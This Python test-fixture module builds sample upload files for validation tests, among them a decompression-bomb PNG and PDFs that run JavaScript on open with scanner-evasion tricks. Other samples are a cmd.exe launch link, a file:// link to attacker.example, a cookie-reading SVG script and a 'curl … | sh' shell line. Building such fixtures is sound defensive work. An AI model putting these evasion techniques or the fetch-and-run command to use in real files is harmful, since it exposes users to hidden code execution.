"""Real sample files, made in memory, for tests of uploads.

Every function returns the bytes of a small but genuine file: images that Pillow (and
pillow_heif) decode, media containers with correct box/element/page structure, a PDF with a
correct cross-reference table. Tests of validation, metadata stripping, storage and the upload
views all use these instead of checked-in binaries, so a sample says in code what it holds
(a GPS position, an orientation, a script) and nobody has to trust an opaque fixture.

`uploaded(data, name)` wraps bytes as the Django upload a view would receive.
"""

from __future__ import annotations

import functools
import io
import os
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo
from pillow_heif import register_heif_opener

register_heif_opener()

# Where the sample photos were "taken": Nairobi, as EXIF rationals (degrees, minutes, seconds).
GPS_LATITUDE = (1.0, 17.0, 10.8)
GPS_LONGITUDE = (36.0, 49.0, 1.2)
GPS_IFD = 0x8825
ORIENTATION = 0x0112
XMP_GPS = (
    b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description rdf:about="" xmlns:exif="http://ns.adobe.com/exif/1.0/" '
    b'exif:GPSLatitude="1,17.18S" exif:GPSLongitude="36,49.02E"/>'
    b'</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)


def uploaded(
    data: bytes, name: str = "upload.bin", content_type: str = "application/octet-stream"
) -> SimpleUploadedFile:
    """The bytes as Django hands an upload to a view (the name and type are the browser's)."""
    return SimpleUploadedFile(name, data, content_type=content_type)


# --- Images ------------------------------------------------------------------------------------


def _picture(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """A picture whose orientation can be seen: red on the left half, blue on the right, and a
    white top-left corner."""
    image = Image.new("RGB", (width, height), (0, 0, 255))
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, width // 2 - 1, height - 1), fill=(255, 0, 0))
    draw.rectangle((0, 0, max(width // 8, 1) - 1, max(height // 8, 1) - 1), fill=(255, 255, 255))
    return image.convert(mode)


def _noise(width: int, height: int) -> Image.Image:
    """Random pixels: they do not compress, so the file's size follows its dimensions."""
    return Image.frombytes("RGB", (width, height), os.urandom(width * height * 3))


@functools.cache
def srgb_profile() -> bytes:
    # Cached: the profile's header holds the time it was made, so two calls a second apart
    # differ and a test comparing a sample's profile with a new one would fail now and then.
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def exif(*, gps: bool = False, orientation: int | None = None) -> Image.Exif:
    """EXIF with a camera make and model, and optionally a GPS position and an orientation."""
    data = Image.Exif()
    data[0x010F] = "SampleCam"  # Make
    data[0x0110] = "Model 1"  # Model
    if orientation is not None:
        data[ORIENTATION] = orientation
    if gps:
        data.get_ifd(GPS_IFD).update(
            {
                0x0001: "S",  # GPSLatitudeRef
                0x0002: GPS_LATITUDE,
                0x0003: "E",  # GPSLongitudeRef
                0x0004: GPS_LONGITUDE,
            }
        )
    return data


def _metadata(*, exif_gps: bool, xmp_gps: bool, orientation: int | None, icc_profile: bool) -> dict:
    options: dict = {}
    if exif_gps or orientation is not None:
        options["exif"] = exif(gps=exif_gps, orientation=orientation)
    if xmp_gps:
        options["xmp"] = XMP_GPS
    if icc_profile:
        options["icc_profile"] = srgb_profile()
    return options


def jpeg(
    width: int = 40,
    height: int = 20,
    *,
    exif_gps: bool = False,
    xmp_gps: bool = False,
    orientation: int | None = None,
    icc_profile: bool = False,
    noise: bool = False,
) -> bytes:
    image = _noise(width, height) if noise else _picture(width, height)
    out = io.BytesIO()
    image.save(
        out,
        "JPEG",
        quality=95,
        **_metadata(
            exif_gps=exif_gps, xmp_gps=xmp_gps, orientation=orientation, icc_profile=icc_profile
        ),
    )
    return out.getvalue()


def png(
    width: int = 40,
    height: int = 20,
    *,
    exif_gps: bool = False,
    xmp_gps: bool = False,
    orientation: int | None = None,
    icc_profile: bool = False,
    noise: bool = False,
    mode: str = "RGB",
) -> bytes:
    """A PNG; `noise=True` makes it about width x height x 3 bytes (for size limits)."""
    image = _noise(width, height) if noise else _picture(width, height, mode)
    options = _metadata(
        exif_gps=exif_gps, xmp_gps=False, orientation=orientation, icc_profile=icc_profile
    )
    if xmp_gps:
        # PNG keeps XMP in an iTXt chunk with this keyword (Pillow reads it back as "xmp").
        info = PngInfo()
        info.add_itxt("XML:com.adobe.xmp", XMP_GPS.decode())
        info.add_text("Comment", "taken at school")
        options["pnginfo"] = info
    out = io.BytesIO()
    image.save(out, "PNG", **options)
    return out.getvalue()


def webp(
    width: int = 40,
    height: int = 20,
    *,
    exif_gps: bool = False,
    xmp_gps: bool = False,
    orientation: int | None = None,
    icc_profile: bool = False,
    lossless: bool = False,
) -> bytes:
    out = io.BytesIO()
    _picture(width, height).save(
        out,
        "WEBP",
        lossless=lossless,
        quality=90,
        **_metadata(
            exif_gps=exif_gps, xmp_gps=xmp_gps, orientation=orientation, icc_profile=icc_profile
        ),
    )
    return out.getvalue()


def heic(
    width: int = 40,
    height: int = 20,
    *,
    exif_gps: bool = False,
    xmp_gps: bool = False,
    icc_profile: bool = False,
) -> bytes:
    out = io.BytesIO()
    _picture(width, height).save(
        out,
        "HEIF",
        quality=90,
        **_metadata(exif_gps=exif_gps, xmp_gps=xmp_gps, orientation=None, icc_profile=icc_profile),
    )
    return out.getvalue()


def gif(width: int = 40, height: int = 20, *, frames: int = 1, xmp: bool = False) -> bytes:
    """A GIF, animated when frames > 1. `xmp=True` adds an XMP application extension (with a
    GPS position) and a comment, the only places a GIF can carry location."""
    colours = [(255, 0, 0), (0, 255, 0), (0, 0, 255), (255, 255, 0)]
    images = [Image.new("P", (width, height)) for _ in range(frames)]
    for number, image in enumerate(images):
        image.putpalette([c for colour in colours for c in colour])
        ImageDraw.Draw(image).rectangle((0, 0, width // 2, height // 2), fill=number % 4)
    out = io.BytesIO()
    options: dict = {"comment": b"taken at school"} if xmp else {}
    if frames > 1:
        options.update(save_all=True, append_images=images[1:], duration=100, loop=0)
    images[0].save(out, "GIF", **options)
    data = out.getvalue()
    if xmp:
        # XMP in GIF: an application extension holding the raw packet, then the 258-byte "magic
        # trailer" that lets readers skip it as ordinary sub-blocks. It goes before the first
        # image, right after the header and the global colour table.
        table = 3 * 2 ** ((data[10] & 0x07) + 1) if data[10] & 0x80 else 0
        at = 13 + table
        trailer = b"\x01" + bytes(range(255, -1, -1)) + b"\x00"
        data = data[:at] + b"\x21\xff\x0bXMP DataXMP" + XMP_GPS + trailer + data[at:]
    return data


def mpo(*, exif_gps: bool = True) -> bytes:
    """A multi-picture JPEG (what phones write with a depth or HDR gain map): two pictures,
    each with its own EXIF."""
    first, second = _picture(40, 20), _picture(20, 10)
    out = io.BytesIO()
    metadata = exif(gps=exif_gps)
    first.save(out, "MPO", save_all=True, append_images=[second], exif=metadata)
    return out.getvalue()


def bmp() -> bytes:
    """A BMP image (not accepted)."""
    out = io.BytesIO()
    _picture(8, 8).save(out, "BMP")
    return out.getvalue()


def truncated_png() -> bytes:
    """A PNG cut off in the middle of its image data."""
    data = png(64, 64, noise=True)
    return data[: len(data) // 2]


def truncated_jpeg() -> bytes:
    data = jpeg(64, 64, noise=True)
    return data[: len(data) // 2]


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def bomb_png(width: int = 20_000, height: int = 20_000) -> bytes:
    """A genuine, tiny PNG with a huge canvas (a decompression bomb): 1-bit greyscale, every row
    blank, so 400 million pixels compress to a few dozen kilobytes."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte, then the packed pixels
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


@functools.cache
def flat_png(width: int = 7000, height: int = 7000, colour=(30, 120, 200)) -> bytes:
    """A genuine PNG of one colour, 8-bit RGB: 49 megapixels (150 MB decoded) in about 150 KB,
    written row by row so that making it costs no more than the file (about 2 s; cached)."""
    row = b"\x00" + bytes(colour) * width  # filter byte, then the pixels
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


# --- Video and audio ---------------------------------------------------------------------------


def _box(kind: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(body)) + kind + body


def _full_box(kind: bytes, body: bytes, version: int = 0) -> bytes:
    return _box(kind, bytes([version, 0, 0, 0]) + body)


def iso_bmff(
    major_brand: bytes,
    compatible: tuple[bytes, ...] = (),
    *,
    handler: bytes | None = b"vide",
    padding: int = 64,
) -> bytes:
    """An ISO base media file (MP4, MOV, M4A): ftyp, a moov with one track whose handler says
    what it holds ("vide" or "soun"; None for a moov without tracks), and an mdat of
    `padding` bytes (to reach a given size)."""
    ftyp = _box(b"ftyp", major_brand + struct.pack(">I", 512) + b"".join(compatible))
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    mvhd = _full_box(
        b"mvhd",
        struct.pack(">IIII", 0, 0, 1000, 1000)  # created, modified, timescale, duration
        + struct.pack(">IH", 0x10000, 0x100)  # rate 1.0, volume 1.0
        + b"\x00" * 10
        + matrix
        + b"\x00" * 24
        + struct.pack(">I", 2),  # next track id
    )
    moov = mvhd
    if handler is not None:
        mdhd = _full_box(b"mdhd", struct.pack(">IIIIHH", 0, 0, 1000, 1000, 0x55C4, 0))
        hdlr = _full_box(b"hdlr", b"\x00" * 4 + handler + b"\x00" * 12 + b"sample\x00")
        tkhd = _full_box(
            b"tkhd",
            struct.pack(">IIIII", 0, 0, 1, 0, 1000)
            + b"\x00" * 8
            + struct.pack(">hhhh", 0, 0, 0x100 if handler == b"soun" else 0, 0)
            + matrix
            + struct.pack(">II", (320 << 16) if handler == b"vide" else 0, 0),
            version=0,
        )
        moov += _box(b"trak", tkhd + _box(b"mdia", mdhd + hdlr))
    return ftyp + _box(b"moov", moov) + _box(b"mdat", b"\x00" * padding)


def mp4(*, handler: bytes | None = b"vide", padding: int = 64) -> bytes:
    return iso_bmff(b"isom", (b"isom", b"iso2", b"avc1", b"mp41"), handler=handler, padding=padding)


def mov() -> bytes:
    return iso_bmff(b"qt  ", (b"qt  ",))


def m4a(*, padding: int = 64) -> bytes:
    return iso_bmff(b"M4A ", (b"M4A ", b"mp42", b"isom"), handler=b"soun", padding=padding)


def avif_header() -> bytes:
    """The start of an AVIF image (not accepted): ftyp avif, mif1."""
    return _box(b"ftyp", b"avif" + b"\x00" * 4 + b"avifmif1miaf") + _box(b"meta", b"\x00" * 8)


def _ebml_size(size: int) -> bytes:
    """A size as an EBML variable-length integer: one byte when it fits, as muxers write small
    elements, otherwise eight."""
    if size < 0x7F:
        return bytes([0x80 | size])
    return struct.pack(">Q", size | (1 << 56))


def _ebml(element_id: bytes, body: bytes) -> bytes:
    return element_id + _ebml_size(len(body)) + body


def matroska(doc_type: str = "webm", *, tracks: tuple[int, ...] = (1, 2)) -> bytes:
    """An EBML header with the given DocType, then a Segment with Info and Tracks (track type 1
    is video, 2 audio) and one empty Cluster."""
    header = _ebml(
        b"\x1a\x45\xdf\xa3",
        _ebml(b"\x42\x86", b"\x01")  # EBMLVersion
        + _ebml(b"\x42\xf7", b"\x01")  # EBMLReadVersion
        + _ebml(b"\x42\x82", doc_type.encode())  # DocType
        + _ebml(b"\x42\x87", b"\x04")  # DocTypeVersion
        + _ebml(b"\x42\x85", b"\x02"),  # DocTypeReadVersion
    )
    info = _ebml(b"\x15\x49\xa9\x66", _ebml(b"\x2a\xd7\xb1", b"\x0f\x42\x40"))
    entries = b"".join(
        _ebml(
            b"\xae",
            _ebml(b"\xd7", bytes([number]))  # TrackNumber
            + _ebml(b"\x83", bytes([kind]))  # TrackType
            + _ebml(b"\x86", b"V_VP9" if kind == 1 else b"A_OPUS"),  # CodecID
        )
        for number, kind in enumerate(tracks, start=1)
    )
    tracks_element = _ebml(b"\x16\x54\xae\x6b", entries)
    cluster = _ebml(b"\x1f\x43\xb6\x75", _ebml(b"\xe7", b"\x00"))
    return header + _ebml(b"\x18\x53\x80\x67", info + tracks_element + cluster)


def webm(*, audio_only: bool = False) -> bytes:
    return matroska("webm", tracks=(2,) if audio_only else (1, 2))


def mkv() -> bytes:
    return matroska("matroska")


def _mp3_frame() -> bytes:
    """One MPEG-1 Layer III frame: 128 kbit/s, 44.1 kHz, no padding, so 417 bytes."""
    return b"\xff\xfb\x90\x64" + b"\x00" * (417 - 4)


def mp3(*, id3: bool = True, frames: int = 3) -> bytes:
    audio = _mp3_frame() * frames
    if not id3:
        return audio
    title = b"\x00" + b"Sample"  # text encoding, then the text
    frame = b"TIT2" + struct.pack(">I", len(title)) + b"\x00\x00" + title
    size = len(frame)  # syncsafe: 7 bits per byte
    syncsafe = bytes([(size >> 21) & 0x7F, (size >> 14) & 0x7F, (size >> 7) & 0x7F, size & 0x7F])
    return b"ID3\x04\x00\x00" + syncsafe + frame + audio


def _ogg_crc(data: bytes) -> int:
    crc = 0
    for byte in data:
        crc ^= byte << 24
        for _ in range(8):
            crc = ((crc << 1) ^ 0x04C11DB7) if crc & 0x80000000 else crc << 1
            crc &= 0xFFFFFFFF
    return crc


def _ogg_page(packet: bytes, *, serial: int, sequence: int, first: bool) -> bytes:
    segments = [255] * (len(packet) // 255) + [len(packet) % 255]
    header = (
        b"OggS\x00"
        + bytes([0x02 if first else 0x00])
        + struct.pack("<qIII", 0, serial, sequence, 0)
        + bytes([len(segments)])
        + bytes(segments)
    )
    page = header + packet
    crc = _ogg_crc(page)
    return page[:22] + struct.pack("<I", crc) + page[26:]


def ogg(codec: str = "vorbis") -> bytes:
    """An Ogg stream starting with the identification header of "vorbis", "opus" or "theora";
    "theora+vorbis" gives a video with sound (two streams)."""
    packets = {
        "vorbis": b"\x01vorbis"
        + struct.pack("<IBIiii", 0, 2, 44100, 0, 128000, 0)
        + b"\xb8\x01",  # block sizes, framing bit
        "opus": b"OpusHead\x01\x02" + struct.pack("<HIhB", 312, 48000, 0, 0),
        "theora": b"\x80theora\x03\x02\x01" + b"\x00\x14\x00\x0f" + b"\x00" * 30,
    }
    pages = [
        _ogg_page(packets[name], serial=number + 1, sequence=0, first=True)
        for number, name in enumerate(codec.split("+"))
    ]
    return b"".join(pages)


def wav(*, seconds: float = 0.1, rate: int = 8000) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as writer:
        writer.setnchannels(1)
        writer.setsampwidth(2)
        writer.setframerate(rate)
        writer.writeframes(b"\x00\x00" * int(seconds * rate))
    return out.getvalue()


# --- Documents ---------------------------------------------------------------------------------


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF with a correct cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pdf(*, text: str = "Hello from school") -> bytes:
    """A one-page PDF that says `text`."""
    content = b"BT /F1 24 Tf 72 720 Td (%s) Tj ET" % text.encode("latin-1")
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            _stream(content),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def pdf_with_javascript(*, how: str = "plain") -> bytes:
    """A PDF that runs JavaScript when opened, written byte by byte. `how`:
    - "plain": an /OpenAction in the open;
    - "escaped": the names written /J#61vaScript and /J#53, which readers decode;
    - "compressed": the action inside a compressed object stream, where the bytes never show
      "/JavaScript";
    - "predictor": the same, with a PNG predictor on the object stream (each byte stored as
      its difference from the one before), so even inflated the bytes don't show the name;
    - "stream-string": the action in the catalog itself, between a string that says
      "stream" and one that says "endstream", as if it were a stream's data;
    - "past-inflate-cap": the action packed in an object stream after 40 MB of blanks
      (40 KB compressed), past where a scanner that inflates at most 32 MB stops."""
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\);) >>"
    if how == "escaped":
        action = action.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    page_objects = [
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>",
    ]
    if how == "stream-string":
        catalog = (
            b"<< /Type /Catalog /Pages 2 0 R /Lang (stream\n) /OpenAction "
            + action
            + b" /PageLabels << /Nums [0 << /P (endstream) >>] >> >>"
        )
        return _pdf([catalog, *page_objects])
    if how not in ("compressed", "predictor", "past-inflate-cap"):
        catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
        return _pdf([catalog, *page_objects, action])
    # Object 5, the action, packed in object 4, a compressed object stream; only a
    # cross-reference stream (object 6) can say where a packed object is.
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
    header, body = b"5 0 ", action  # object 5 at offset 0 after the header
    if how == "past-inflate-cap":
        padding = 40 * 1024 * 1024
        header, body = b"5 %d " % padding, b" " * padding + action
    packed = header + body
    parameters = b""
    if how == "predictor":
        columns = 8
        packed += b" " * (-len(packed) % columns)
        packed = _png_sub_predicted(packed, columns)
        parameters = b"/DecodeParms << /Predictor 12 /Columns %d >> " % columns
    object_stream = _stream(
        zlib.compress(packed),
        b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode " % len(header) + parameters,
    )
    return _pdf_with_xref_stream([catalog, *page_objects, object_stream], packed_in=4, packed=1)


def _pdf_with_xref_stream(objects: list[bytes], *, packed_in: int, packed: int) -> bytes:
    """A PDF 1.5 whose `objects` (numbered from 1) are followed by `packed` more objects
    stored in object `packed_in` (an object stream), then a cross-reference stream."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    entries = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    for number, body in enumerate(objects, start=1):
        entries.append(struct.pack(">BIH", 1, len(out), 0))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    entries += [struct.pack(">BIH", 2, packed_in, index) for index in range(packed)]
    xref_number = len(objects) + packed + 1
    entries.append(struct.pack(">BIH", 1, len(out), 0))
    xref = len(out)
    table = b"".join(entries)
    out += b"%d 0 obj\n" % xref_number
    out += _stream(table, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R " % (xref_number + 1))
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _png_sub_predicted(data: bytes, columns: int) -> bytes:
    """`data` in rows of `columns` bytes, each row stored with PNG's Sub filter (filter byte 1,
    then each byte minus the one to its left)."""
    rows = []
    for start in range(0, len(data), columns):
        row = data[start : start + columns]
        rows.append(
            b"\x01" + bytes((row[i] - (row[i - 1] if i else 0)) % 256 for i in range(len(row)))
        )
    return b"".join(rows)


def pdf_object_stream_bomb(megabytes: int = 100) -> bytes:
    """A PDF whose object stream inflates to `megabytes` of blanks (about 450 KB stored)."""
    blanks = zlib.compressobj(1)
    body = b"".join(blanks.compress(b" " * (1024 * 1024)) for _ in range(megabytes))
    body += blanks.flush()
    object_stream = _stream(body, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ")
    return _pdf_with_xref_stream(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Extra 5 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>",
            object_stream,
        ],
        packed_in=4,
        packed=1,
    )


def pdf_changed(
    change: Callable[[pikepdf.Pdf], None] | None = None,
    *,
    object_streams: bool = False,
    encryption: pikepdf.Encryption | None = None,
) -> bytes:
    """The one-page PDF of `pdf()`, changed by `change` with pikepdf (qpdf), and saved by it:
    with its objects packed in compressed object streams if `object_streams`, encrypted if
    `encryption` is given."""
    with pikepdf.open(io.BytesIO(pdf())) as document:
        if change is not None:
            change(document)
        out = io.BytesIO()
        mode = pikepdf.ObjectStreamMode.generate if object_streams else None
        document.save(
            out,
            object_stream_mode=mode or pikepdf.ObjectStreamMode.preserve,
            encryption=encryption or False,
        )
    return out.getvalue()


def _javascript(pdf: pikepdf.Pdf, code: str = "app.alert('hi');") -> pikepdf.Dictionary:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code)))


def _annotation(pdf: pikepdf.Pdf, **entries) -> None:
    """An annotation on the first page, in its top left corner."""
    page = pdf.pages[0].obj
    annotation = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[72, 700, 272, 740], P=page, **entries)
    )
    page.Annots = pdf.make_indirect(pikepdf.Array([annotation]))


def _open_action_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _javascript(pdf)


def _page_additional_action(pdf: pikepdf.Pdf) -> None:
    # /O: when the page is opened.
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=_javascript(pdf))


def _launch_link(pdf: pikepdf.Pdf) -> None:
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    _annotation(pdf, Subtype=pikepdf.Name.Link, A=launch)


def _xfa_form(pdf: pikepdf.Pdf) -> None:
    template = b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><script>x</script>'
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=pdf.make_stream(template + b"</template>")
    )


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["homework.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + b"\x00" * 64)


def _file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"<html><script>alert(1)</script></html>")
    _annotation(
        pdf, Subtype=pikepdf.Name.FileAttachment, FS=spec.obj, Contents=pikepdf.String("notes")
    )


def _chained_javascript(pdf: pikepdf.Pdf) -> None:
    # Opening goes to the first page (fine on its own), then runs what follows it.
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo,
        D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]),
        Next=pikepdf.Array([_javascript(pdf)]),
    )


def _link_with_chained_javascript(pdf: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(
        S=pikepdf.Name.URI,
        URI=pikepdf.String("https://example.org/"),
        Next=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=_javascript(pdf)),
    )
    _annotation(pdf, Subtype=pikepdf.Name.Link, A=link)


def _link_to(address: str) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(address))
        _annotation(pdf, Subtype=pikepdf.Name.Link, A=link)

    return change


def _javascript_name_tree(pdf: pikepdf.Pdf) -> None:
    # Document-level scripts: run when the document opens, from the catalog's name tree.
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), _javascript(pdf)]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pdf.make_indirect(tree))


def _open_web_page(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/")
    )


def _web_link(pdf: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"))
    _annotation(pdf, Subtype=pikepdf.Name.Link, A=link, Border=[0, 0, 1])


def _form_without_scripts(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0].obj
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("name"),
            V=pikepdf.String(""),
            Rect=[72, 600, 372, 630],
            P=page,
            DA=pikepdf.String("/Helv 12 Tf 0 g"),
        )
    )
    page.Annots = pdf.make_indirect(pikepdf.Array([field]))
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([field]), DA=pikepdf.String("/Helv 12 Tf 0 g")
    )


def _open_at_first_page(pdf: pikepdf.Pdf) -> None:
    # What LaTeX's hyperref writes: a destination, not an action.
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])


def _outline(pdf: pikepdf.Pdf) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Chapter 1", 0))


# Changes that make the sample PDF hostile (pdf_changed(PDF_HOSTILE[name])), and harmless ones.
PDF_HOSTILE: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "open-action-javascript": _open_action_javascript,
    "page-additional-action": _page_additional_action,
    "launch-link": _launch_link,
    "xfa-form": _xfa_form,
    "embedded-file": _embedded_file,
    "file-attachment-annotation": _file_attachment_annotation,
    "chained-javascript": _chained_javascript,
    "link-with-chained-javascript": _link_with_chained_javascript,
    "javascript-name-tree": _javascript_name_tree,
    "open-web-page": _open_web_page,
    "javascript-link": _link_to("javascript:app.alert(1)"),
    "windows-share-link": _link_to("file://attacker.example/share/x.exe"),
}
PDF_HARMLESS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "web-link": _web_link,
    "email-link": _link_to("mailto:teacher@school.example"),
    "form-without-scripts": _form_without_scripts,
    "open-at-first-page": _open_at_first_page,
    "outline": _outline,
}


def pdf_with_many_objects(count: int) -> bytes:
    """The sample PDF with `count` more objects (small dictionaries the catalog lists)."""

    def add(pdf: pikepdf.Pdf) -> None:
        items = [pdf.make_indirect(pikepdf.Dictionary(N=number)) for number in range(count)]
        pdf.Root.Extra = pdf.make_indirect(pikepdf.Array(items))

    return pdf_changed(add, object_streams=True)


def pdf_of_a_photo() -> bytes:
    """A PDF as a phone's scanner app or Pillow writes it: one page holding a JPEG."""
    out = io.BytesIO()
    _picture(200, 100).save(out, "PDF", resolution=72)
    return out.getvalue()


def truncated_pdf() -> bytes:
    data = pdf()
    return data[: len(data) // 2]


# --- Things that must never be stored ----------------------------------------------------------

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)


def svg() -> bytes:
    return SVG


def svg_with_xml_declaration() -> bytes:
    return (
        b'\xef\xbb\xbf  \n<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + SVG
    )


def html(*, upper: bool = False, bom: bool = False, doctype: bool = True) -> bytes:
    page = b"<!doctype html>\n<html><body><script>alert(1)</script></body></html>"
    if not doctype:
        page = b"\r\n\t <html><head><title>x</title></head><body>hi</body></html>"
    if upper:
        page = page.upper()
    return (b"\xef\xbb\xbf" if bom else b"") + page


def exe() -> bytes:
    """A Windows executable's headers: the MZ stub pointing at a PE header."""
    stub = bytearray(b"MZ" + b"\x00" * 62)
    stub[0x3C:0x40] = struct.pack("<I", 64)
    coff = struct.pack("<HHIIIHH", 0x14C, 0, 0, 0, 0, 0, 0x0102)
    return bytes(stub) + b"PE\x00\x00" + coff + b"\x00" * 64


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 40


def mach_o() -> bytes:
    return b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "homework")
    return out.getvalue()


def docx() -> bytes:
    """A Word document's container (what filetype recognises a .docx by)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"/>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def empty() -> bytes:
    return b""
